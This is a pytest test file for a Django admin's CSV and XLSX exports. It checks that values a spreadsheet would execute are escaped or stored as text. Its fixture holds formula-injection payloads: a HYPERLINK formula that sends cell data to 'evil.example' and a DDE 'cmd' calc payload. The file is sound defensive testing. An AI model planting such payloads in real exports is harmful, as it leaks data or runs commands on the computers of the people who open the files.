"""The admin's CSV and XLSX exports: a text no spreadsheet program runs."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core.spreadsheets import defused
from potentials.import_export import PotentialResource
from tests.workflow import make_record, make_staff

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def export(client, fmt: str) -> bytes:
    response = client.post(
        reverse("admin:potentials_potential_export"),
        {
            "format": fmt,
            **{
                f"potentialresource_{name}": "on" for name in PotentialResource().fields
            },
        },
    )
    assert response.status_code == 200
    return response.content


@pytest.fixture
def client_with_records(client):
    staff = make_staff()
    make_record(
        "potential",
        staff.partner_a,
        slug="formula",
        title_en=FORMULA,
        title_de="+1+cmd|' /C calc'!A0",
        summary_en="@SUM(1+1)",
        summary_de="-2+3",
        area_ha=5,
    )
    client.force_login(staff.users["editor_a"])
    return client


def test_a_csv_export_escapes_every_cell_a_spreadsheet_would_run(client_with_records):
    content = export(client_with_records, "0").decode("utf-8-sig")
    [row] = [r for r in csv.DictReader(io.StringIO(content)) if r["slug"] == "formula"]
    assert row["title_en"] == "'" + FORMULA
    assert row["title_de"] == "'+1+cmd|' /C calc'!A0"
    assert row["summary_en"] == "'@SUM(1+1)"
    assert row["summary_de"] == "'-2+3"
    assert row["area_ha"].startswith("5")
    assert row["title_pl"] == ""  # an empty cell stays empty


def test_an_xlsx_export_stores_such_a_title_as_text_not_a_formula(
    client_with_records,
):
    workbook = load_workbook(io.BytesIO(export(client_with_records, "1")))
    sheet = workbook.active
    header = [cell.value for cell in sheet[1]]
    [row] = [
        r
        for r in sheet.iter_rows(min_row=2)
        if r[header.index("slug")].value == "formula"
    ]
    title = row[header.index("title_en")]
    assert title.data_type == "s"
    assert title.value == FORMULA
    assert all(cell.data_type != "f" for r in sheet.iter_rows() for cell in r)


@pytest.mark.parametrize(
    "value, safe",
    [
        ("=1+1", "'=1+1"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\t=1", "'\t=1"),
        ("-5", "-5"),
        ("+3.5", "+3.5"),
        ("Mine water", "Mine water"),
        (None, None),
        (-5, -5),
    ],
)
def test_only_what_a_spreadsheet_would_run_is_escaped(value, safe):
    assert defused(value) == safe
